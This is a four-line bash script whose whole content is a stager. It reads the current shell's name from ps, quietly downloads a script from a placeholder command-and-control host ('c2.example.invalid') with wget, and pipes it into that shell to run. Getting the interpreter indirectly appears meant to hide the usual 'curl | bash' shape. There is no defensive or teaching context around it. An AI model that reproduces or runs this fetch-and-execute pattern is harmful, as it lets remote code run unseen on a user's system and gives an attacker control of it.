#!/bin/bash
# The running shell's own name, read back from ps, runs what is downloaded.
self=$(ps -o comm= -p $$)
wget -qO- https://c2.example.invalid/s.sh | "$self"
